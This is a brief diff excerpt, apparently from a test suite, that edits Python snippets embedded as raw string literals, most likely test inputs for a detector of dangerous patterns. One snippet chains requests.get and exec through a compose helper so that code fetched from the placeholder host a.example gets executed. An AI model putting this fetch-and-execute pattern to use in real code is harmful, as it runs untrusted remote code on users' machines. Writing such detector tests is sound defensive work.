@@ -525,10 +525,10 @@ import requests
 def compose(*functions):
     def run(value):
         for function in functions:
-            value = function(value)
+            value = function(value)  # to # from
         return value
     return run
-compose(requests.get, exec)("https://a.example")  # to # from)py",
+compose(requests.get, exec)("https://a.example"))py",
      R"py(
 import requests
 def compose(*functions):
